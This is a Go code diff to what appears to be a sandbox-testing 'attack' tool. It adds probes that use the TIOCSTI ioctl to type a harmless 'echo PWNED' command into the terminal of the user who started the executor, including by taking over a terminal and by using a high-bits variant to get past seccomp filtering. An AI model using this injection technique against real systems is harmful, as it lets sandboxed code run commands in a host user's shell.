@@ -6,6 +6,7 @@ package main
 import (
 	"fmt"
 	"os"
+	"os/signal"
 	"syscall"
 	"unsafe"
 
@@ -14,7 +15,7 @@ import (
 
 func main() {
 	if len(os.Args) < 2 {
-		fmt.Fprintln(os.Stderr, "usage: attack chroot-escape FILE | syscalls | whoami")
+		fmt.Fprintln(os.Stderr, "usage: attack chroot-escape FILE | syscalls | tty | whoami")
 		os.Exit(2)
 	}
 	switch os.Args[1] {
@@ -22,6 +23,8 @@ func main() {
 		chrootEscape(os.Args[2])
 	case "syscalls":
 		syscalls()
+	case "tty":
+		tty()
 	case "whoami":
 		fmt.Printf("uid %d euid %d\n", os.Getuid(), os.Geteuid())
 	default:
@@ -118,4 +121,94 @@ func syscalls() {
 		syscall.Wait4(int(pid), &ws, 0, nil)
 	}
 	report("fork", errno(e))
+	ownPty()
+}
+
+// ownPty makes a pty of the step's own its controlling terminal, where the kernel lets
+// TIOCSTI through, so that only the seccomp filter can refuse it; the request is tried
+// as is and with high bits set (the kernel takes it as an unsigned int). It leaves the
+// caller's session.
+func ownPty() {
+	// The pty hangs up when the master closes, before the slave: no SIGHUP for that.
+	signal.Ignore(syscall.SIGHUP)
+	if _, err := unix.Setsid(); err != nil {
+		report("setsid", err)
+		return
+	}
+	master, err := unix.Open("/dev/ptmx", unix.O_RDWR|unix.O_NOCTTY, 0)
+	if err != nil {
+		report("ptmx", err)
+		return
+	}
+	defer unix.Close(master)
+	if err := unix.IoctlSetPointerInt(master, unix.TIOCSPTLCK, 0); err != nil {
+		report("unlockpt", err)
+		return
+	}
+	n, err := unix.IoctlGetInt(master, unix.TIOCGPTN)
+	if err != nil {
+		report("ptsname", err)
+		return
+	}
+	// A session leader without a controlling terminal acquires the first it opens.
+	slave, err := unix.Open(fmt.Sprintf("/dev/pts/%d", n), unix.O_RDWR, 0)
+	if err != nil {
+		report("pts", err)
+		return
+	}
+	defer unix.Close(slave)
+	_, err = unix.IoctlGetTermios(slave, unix.TCGETS)
+	report("ioctl-tcgets", err)
+	report("ioctl-tiocsti", inject(slave, unix.TIOCSTI, "x"))
+	report("ioctl-tiocsti-highbits", inject(slave, 1<<32|unix.TIOCSTI, "x"))
+}
+
+// inject pushes s into the input queue of the terminal open as fd, one byte at a time,
+// with ioctl request req (TIOCSTI, or it with high bits set).
+func inject(fd int, req uint64, s string) error {
+	for i := 0; i < len(s); i++ {
+		b := s[i]
+		if _, _, e := unix.Syscall(unix.SYS_IOCTL, uintptr(fd), uintptr(req), uintptr(unsafe.Pointer(&b))); e != 0 {
+			return e
+		}
+	}
+	return nil
+}
+
+// tty tries to type a command into the terminal of whoever started the executor: through
+// /dev/tty (the controlling terminal, if the step has one), through any of fds 0-2 that
+// is a terminal, and by stealing one of those as its controlling terminal.
+func tty() {
+	// Built here so that the output never holds it.
+	line := "echo " + "PWN" + "ED\n"
+	fd, err := unix.Open("/dev/tty", unix.O_RDWR|unix.O_NOCTTY, 0)
+	report("open-tty", err)
+	if err == nil {
+		report("tiocsti-tty", inject(fd, unix.TIOCSTI, line))
+		unix.Close(fd)
+	}
+	for fd := 0; fd <= 2; fd++ {
+		name := fmt.Sprintf("tiocsti-fd%d", fd)
+		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
+			report(name, fmt.Errorf("not a terminal: %w", err))
+			continue
+		}
+		report(name, inject(fd, unix.TIOCSTI, line))
+	}
+	if _, err := unix.Setsid(); err != nil {
+		report("setsid", err)
+		return
+	}
+	for fd := 0; fd <= 2; fd++ {
+		name := fmt.Sprintf("steal-fd%d", fd)
+		if _, err := unix.IoctlGetTermios(fd, unix.TCGETS); err != nil {
+			report(name, fmt.Errorf("not a terminal: %w", err))
+			continue
+		}
+		if err := unix.IoctlSetPointerInt(fd, unix.TIOCSCTTY, 1); err != nil {
+			report(name, err)
+			continue
+		}
+		report(name, inject(fd, unix.TIOCSTI, line))
+	}
 }
